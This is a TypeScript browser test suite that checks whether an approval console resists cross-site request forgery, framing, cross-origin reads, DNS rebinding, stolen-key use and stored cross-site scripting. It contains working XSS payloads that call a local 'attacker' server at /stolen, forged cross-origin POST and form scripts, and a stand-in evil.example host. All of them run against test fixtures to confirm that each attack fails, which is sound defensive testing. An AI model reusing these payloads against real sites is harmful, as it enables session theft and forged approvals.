import { request } from 'node:http'
import { sql } from 'drizzle-orm'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { newId } from '../backbone/canonical/ids.ts'
import { Proposal } from '../backbone/canonical/proposal.ts'
import { credentialsService } from '../backbone/services/credentials.ts'
import { doorWatch, startAttacker } from './console-attacker.ts'
import { type ConsoleWorld, hasBrowser, openBrowser, openConsoleWorld } from './console-world.ts'
import { insertWholeOrder, orderOnItsWay } from './whole-order.ts'

const Session = z.object({ csrfToken: z.string() })

describe.skipIf(!hasBrowser)('in a browser (TEST_BROWSER=1)', () => {
  const door = doorWatch()
  let world: ConsoleWorld
  let attacker: Awaited<ReturnType<typeof startAttacker>>
  let letter: Proposal
  /** A page of the console, of somebody who may approve the letter, in the browser that also opens what is hostile. */
  let own: Page
  let csrfToken: string
  /** A body of the page's own script that would run if a text became part of a page, told apart by its place. */
  const wordsAt = (place: string) => {
    const steal = `fetch('http://127.0.0.1:${attacker.port}/stolen?${place}')`
    return `<img src=x onerror="${steal}"><script>${steal}</script><a href="javascript:${steal}">${place}</a>`
  }

  beforeAll(async () => {
    world = await openConsoleWorld({ onLog: door.onLog })
    attacker = await startAttacker()
    const note = { agent: 'collections', words: wordsAt('agent'), isTainted: true }
    const { proposalId } = await world.proposeLetter(note)
    own = (await world.open('approver', 'Bob Ray')).page
    await own.goto(`/proposals/${proposalId}`)
    await own.getByRole('button', { name: 'Approve', exact: true }).waitFor()
    const read = (path: string) => own.evaluate(async (from) => (await fetch(from)).json(), path)
    letter = Proposal.parse(await read(`/v1/proposals/${proposalId}`))
    csrfToken = Session.parse(await read('/v1/session')).csrfToken
  })
  afterAll(async () => {
    await attacker.stop()
    await world.close()
  })

  /** What a decision would have changed: the proposals, and what is on record about them. */
  const standing = () =>
    world.database.inTenant(world.tenantId, async (tx) => ({
      proposals: await tx.rows(sql`select status, version from proposal order by proposal_id`),
      decisions: await tx.rows(sql`select count(*)::int as count from proposal_decision`),
      events: await tx.rows(sql`
        select kind, count(*)::int as count from event where kind like 'proposal.%'
        group by kind order by kind`),
    }))

  /** Runs a script in a page, given the whole truth about the proposal, as if it had been found out. */
  function run(page: Page, script: string): Promise<unknown> {
    const { proposalId, version, effectHash } = letter
    const known = {
      house: world.url,
      path: `/v1/proposals/${proposalId}/decision`,
      screen: `/proposals/${proposalId}`,
      decision: JSON.stringify({ decision: 'approve', version, effectHash }),
    }
    return page.evaluate(
      `(async ({ house, path, screen, decision }) => {${script}})(${JSON.stringify(known)})`,
    )
  }

  async function hostilePage(host: string): Promise<Page> {
    const page = await own.context().newPage()
    await page.goto(`http://${host}:${attacker.port}/`)
    return page
  }

  /** What reached the decision's route, or another one, while something was tried; waits until it did. */
  async function reaching(wanted: RegExp, count: number, attempt: () => Promise<unknown>) {
    door.reached.splice(0)
    await attempt()
    const seen = () => door.reached.filter((line) => wanted.test(line))
    await expect
      .poll(() => seen().length, { message: `${wanted} is reached` })
      .toBeGreaterThanOrEqual(count)
    return seen()
  }

  // Another port of one host is the same site to a browser, which sends the session's cookie along; another name is
  // another site, and it does not.
  for (const { host, refusal } of [
    { host: '127.0.0.1', refusal: 403 },
    { host: 'localhost', refusal: 401 },
  ]) {
    const from = `a page of http://${host} at another port`
    const posted = /^POST .*decision/
    // What has no route for this method.
    const noRoute = /^GET \S*\* 4/

    test(`${from} posts the approval by script: it arrives and is refused, or the browser never sends it`, async () => {
      const [before, page] = [await standing(), await hostilePage(host)]
      const simple = await reaching(posted, 1, () =>
        run(
          page,
          `await fetch(house + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: decision }).catch(() => undefined)`,
        ),
      )
      expect(simple).toEqual([`POST /v1/proposals/:id/decision ${refusal}`])
      let result: unknown
      const asked = await reaching(/^OPTIONS/, 1, async () => {
        result = await run(
          page,
          `return fetch(house + path, { method: 'POST', credentials: 'include', body: decision,
            headers: { 'content-type': 'application/json', 'x-csrf-token': 'guessed' } })
            .then(({ status }) => status, ({ name }) => name)`,
        )
      })
      // The browser asked first whether it may, and was not told so.
      expect([result, asked.length]).toEqual(['TypeError', 1])
      expect(door.reached.filter((line) => posted.test(line))).toEqual([])
      expect(await standing()).toEqual(before)
      await page.close()
    })

    test(`${from} posts forms of every kind, one shaped as the approval itself: all are refused`, async () => {
      const [before, page] = [await standing(), await hostilePage(host)]
      const forms = await reaching(posted, 3, () =>
        run(
          page,
          `for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
            const frame = document.createElement('iframe')
            frame.name = enctype
            const form = document.createElement('form')
            Object.assign(form, { method: 'post', action: house + path, enctype, target: enctype })
            const fields = enctype === 'text/plain'
              ? { [decision.slice(0, -1) + ',"reason":"']: '"}' } : JSON.parse(decision)
            for (const [name, value] of Object.entries(fields)) {
              const input = document.createElement('input')
              Object.assign(input, { type: 'hidden', name, value })
              form.append(input)
            }
            document.body.append(frame, form)
            form.submit()
          }`,
        ),
      )
      expect(forms).toEqual(Array(3).fill(`POST /v1/proposals/:id/decision ${refusal}`))
      expect(await standing()).toEqual(before)
      await page.close()
    })

    test(`${from} cannot show the console in a frame, nor hold a window of it`, async () => {
      const [before, page] = [await standing(), await hostilePage(host)]
      const said: string[] = []
      page.on('console', (message) => said.push(message.text()))
      await run(
        page,
        `const frame = document.createElement('iframe')
        frame.src = house + screen
        document.body.append(frame)
        await new Promise((loaded) => { frame.onload = loaded })`,
      )
      await expect
        .poll(() => page.frames().map((frame) => frame.url()))
        .toContain('chrome-error://chromewebdata/')
      await expect.poll(() => said.join(' ')).toMatch(/frame-ancestors|X-Frame-Options/)
      const [popup] = await Promise.all([
        page.waitForEvent('popup'),
        run(page, `window.held = window.open(house + screen)`),
      ])
      // Whoever follows a link is signed in; whoever opened it from elsewhere holds nothing.
      await popup.getByRole('button', { name: 'Approve', exact: true }).waitFor()
      expect(
        await run(
          page,
          `window.held.postMessage({ decision: 'approve' }, '*')
          let isReadable = true
          try { void window.held.document.body } catch { isReadable = false }
          return { isClosed: window.held.closed, hasOpener: isReadable && window.held.document?.body !== undefined }`,
        ),
      ).toMatchObject({ isClosed: true })
      expect(await popup.evaluate('window.opener')).toBeNull()
      expect(await standing()).toEqual(before)
      await popup.close()
      await page.close()
    })

    test(`${from} reads nothing: no session’s token, no stream of events, no socket, no picture`, async () => {
      const [before, page] = [await standing(), await hostilePage(host)]
      const tries: [RegExp, string][] = [
        [
          /^GET \/v1\/session/,
          `return fetch(house + '/v1/session', { credentials: 'include' }).then((answer) => answer.text(), () => 'nothing')`,
        ],
        [
          /^GET \/v1\/stream/,
          `return new Promise((done) => {
            const stream = new EventSource(house + '/v1/stream?unnamed=true', { withCredentials: true })
            stream.onopen = stream.onmessage = () => done('something')
            stream.onerror = () => { stream.close(); done('nothing') }
          })`,
        ],
        [
          /^GET \/v1\/stream/,
          `return new Promise((done) => {
            const socket = new WebSocket(house.replace('http', 'ws') + '/v1/stream')
            socket.onopen = socket.onmessage = () => done('something')
            socket.onerror = () => done('nothing')
          })`,
        ],
        [
          noRoute,
          `return new Promise((done) => {
            const picture = new Image()
            picture.onload = () => done('something')
            picture.onerror = () => done('nothing')
            picture.src = house + path + '?decision=approve'
          })`,
        ],
      ]
      for (const [wanted, script] of tries) {
        let read: unknown
        const [arrived] = await reaching(wanted, 1, async () => {
          read = await run(page, script)
        })
        expect([script, read, arrived?.slice(-3)]).toEqual([script, 'nothing', String(refusal)])
      }
      // A link that is followed is asked by the person: there is nothing at its end.
      const followed = await reaching(noRoute, 1, () =>
        page.goto(`${world.url}/v1/proposals/${letter.proposalId}/decision?decision=approve`),
      )
      expect(followed.join()).toMatch(/ 40[145]$/)
      expect(await standing()).toEqual(before)
      await page.close()
    })
  }

  test('a name of somebody else that leads to this machine has no session here, and what claims one is refused', async () => {
    const before = await standing()
    const name = 'quittance.evil.example'
    const browser = await openBrowser([name])
    const [cookie] = await own.context().cookies()
    const sessionCookie = `${cookie?.name}=${cookie?.value}`
    try {
      const context = await browser.newContext()
      await context.addCookies(cookie === undefined ? [] : [cookie])
      const page = await context.newPage()
      const rebound = `http://${name}:${new URL(world.url).port}`
      await page.goto(`${rebound}/proposals/${letter.proposalId}`)
      await page.getByRole('heading', { name: 'Sign in' }).waitFor()
      const status = await run(
        page,
        `return (await fetch(path, { method: 'POST', body: decision,
          headers: { 'content-type': 'application/json', 'x-csrf-token': '${csrfToken}' } })).status`,
      )
      expect(status).toBe(401)
    } finally {
      await browser.close()
    }
    const status = await new Promise<number | undefined>((answered, failed) => {
      const sent = request(
        `${world.url}/v1/proposals/${letter.proposalId}/decision`,
        {
          method: 'POST',
          headers: {
            // Whatever a page can be made to claim, and the session itself: the token it has not.
            ...{ host: name, origin: `http://${name}`, 'sec-fetch-site': 'same-origin' },
            ...{ 'content-type': 'application/json', cookie: sessionCookie },
          },
        },
        (answer) => {
          answer.resume()
          answered(answer.statusCode)
        },
      )
      sent.once('error', failed)
      sent.end('{}')
    })
    expect(status).toBe(403)
    expect(await standing()).toEqual(before)
  }, 30_000)

  test('a stolen key of an agent, a host of agents or a partner decides nothing, also in the console’s own page', async () => {
    const before = await standing()
    const { tenantId, database } = world
    const credentials = credentialsService({ database })
    const who = { tenantId, actor: 'test' }
    const { proposalId, version, effectHash } = letter
    const looked = { version, effectHash }
    const deeds = Object.entries({
      [`/v1/proposals/${proposalId}/decision`]: { decision: 'approve', ...looked },
      [`/v1/proposals/${proposalId}/decision?edit`]: {
        ...{ decision: 'edit', ...looked, draft: { subject: 'Pay', body: 'Pay somebody else.' } },
      },
      '/v1/proposals/decisions': { decision: 'approve', items: [{ proposalId, ...looked }] },
      '/v1/acts/release-hold': { payload: { orderId: world.tenant.held[0]?.orderId }, reason: 'x' },
    })
    const tryWith = (token: string, path: string, body: unknown, how: 'include' | 'omit') =>
      own.evaluate(
        async ([to, sent, key, mode, mark]) => {
          const tried = [{ 'x-csrf-token': mark }, {}].map(async (proof) => {
            const headers = { 'content-type': 'application/json', authorization: `Bearer ${key}` }
            const answer = await fetch(to, {
              ...{ method: 'POST', body: sent, credentials: mode },
              headers: { ...headers, ...proof },
            })
            return `${answer.status} ${await answer.text()}`
          })
          return Promise.all(tried)
        },
        [path, JSON.stringify(body), token, how, csrfToken] as const,
      )
    for (const role of ['agent', 'mcp', 'partner'] as const) {
      const { token } = await credentials.create(who, { name: role, role, scopes: [] })
      for (const [path, body] of deeds) {
        // With the session beside it nobody could say whose act it is; without, a key is nobody who decides.
        const both = await tryWith(token, path, body, 'include')
        const alone = await tryWith(token, path, body, 'omit')
        expect([role, path, both, alone]).toEqual([
          ...[role, path],
          Array(2).fill(expect.stringMatching(/^400 .*two-credentials/)),
          Array(2).fill(expect.stringMatching(/^403 .*person-needed/)),
        ])
      }
    }
    expect(await standing()).toEqual(before)
  }, 60_000)

  test('what others write is shown as they wrote it, on every screen, and nothing of it runs', async () => {
    const order = await plant()
    const { page, faults } = await world.open('approver', 'Bob Ray')
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const shown = async (path: string, places: readonly string[], tabs: readonly string[] = []) => {
      await page.goto(path)
      await page.locator('h1, h2').first().waitFor()
      await expect.poll(() => page.locator('[aria-busy="true"]').count()).toBe(0)
      let text = String(await page.evaluate('document.body.innerText'))
      for (const tab of tabs) {
        await page.getByRole('tab', { name: tab }).click()
        await expect.poll(() => page.locator('[aria-busy="true"]').count()).toBe(0)
        text += await page.evaluate('document.body.innerText')
      }
      for (const place of places)
        expect([path, place, text.includes(wordsAt(place))]).toEqual([path, place, true])
      const became = `document.querySelectorAll('img[src="x"], a[href^="javascript:"], #root script').length`
      expect([path, await page.evaluate(became)]).toEqual([path, 0])
    }
    await shown(`/proposals/${letter.proposalId}`, ['agent'])
    await shown('/orders', ['po', 'customer'])
    await shown(`/orders/${order.orderId}`, ['po', 'hold', 'finding', 'line'])
    await shown('/failures', ['call'])
    await shown('/failures?tab=calls', ['call'])
    await shown('/failures?tab=quarantine', ['quarantine'])
    await shown('/collections/C-10006', ['customer', 'reply'])
    await page.getByRole('button', { name: 'Assistant' }).click()
    await page.getByRole('textbox', { name: 'Ask the assistant' }).fill(wordsAt('chat'))
    await page.keyboard.press('Enter')
    await page.locator('article[aria-label="Answer"][aria-busy="false"]').waitFor()
    await page.getByText(wordsAt('chat')).first().waitFor()
    // Bytes that a partner sent as a page are downloaded, never opened.
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.goto(`/v1/documents/${order.documentId}/raw`).catch(() => undefined),
    ])
    await download.cancel()
    expect([attacker.stolen(), dialogs, faults]).toEqual([[], [], []])
    // The same words would run where a page takes them for its own.
    const control = await hostilePage('127.0.0.1')
    await control.evaluate(`document.body.innerHTML = ${JSON.stringify(wordsAt('control'))}`)
    await expect.poll(() => attacker.stolen()).toEqual(['/stolen?control'])
    await control.close()
  }, 60_000)

  /** Has others write: a buyer, a customer by mail, another system. */
  async function plant() {
    const plain = orderOnItsWay({
      ...{ customerNumber: 'C-10006', stage: 'held', receivedAt: new Date().toISOString() },
    })
    const order = {
      ...plain,
      purchaseOrderNumber: wordsAt('po'),
      findings: [{ kind: 'price-mismatch', line: '1', message: wordsAt('finding') }],
      holds: plain.holds.map((hold) => ({ ...hold, reason: wordsAt('hold') })),
      lines: plain.lines.map((line) => ({ ...line, description: wordsAt('line') })),
    }
    await insertWholeOrder(world.database, world.tenantId, order)
    await world.database.inTenant(world.tenantId, async (tx) => {
      await tx.run(
        sql`update customer set name = ${wordsAt('customer')} where customer_number = 'C-10006'`,
      )
      await tx.run(sql`
        insert into quarantine (quarantine_id, tenant_id, receipt_id, kind, reason, findings)
        select ${newId('qrn')}, tenant_id, receipt_id, 'poison', ${wordsAt('quarantine')}, '[]'::jsonb
        from receipt limit 1`)
      await tx.run(
        sql`update transaction set error_message = ${wordsAt('call')} where status = 'failed'`,
      )
    })
    const answer = await own.evaluate(
      async ([content, mark]) => {
        const { status } = await fetch('/v1/collections/replies', {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-csrf-token': mark },
          body: JSON.stringify({
            customerNumber: 'C-10006',
            channel: 'email',
            sender: 'a@b.example',
            content,
          }),
        })
        return status
      },
      [wordsAt('reply'), csrfToken] as const,
    )
    expect(answer).toBeLessThan(300)
    return order
  }

  test('from the console’s own page the same approval is refused without the token, and done with it', async () => {
    const before = await standing()
    const approve = (headers: string) =>
      run(
        own,
        `return (await fetch(path, { method: 'POST', body: decision,
          headers: { 'content-type': 'application/json' ${headers} } })).status`,
      )
    expect(await approve('')).toBe(403)
    expect(await approve(`, 'x-csrf-token': 'guessed'`)).toBe(403)
    expect(await standing()).toEqual(before)
    expect(await approve(`, 'x-csrf-token': '${csrfToken}'`)).toBe(200)
    expect(await standing()).not.toEqual(before)
  })
})
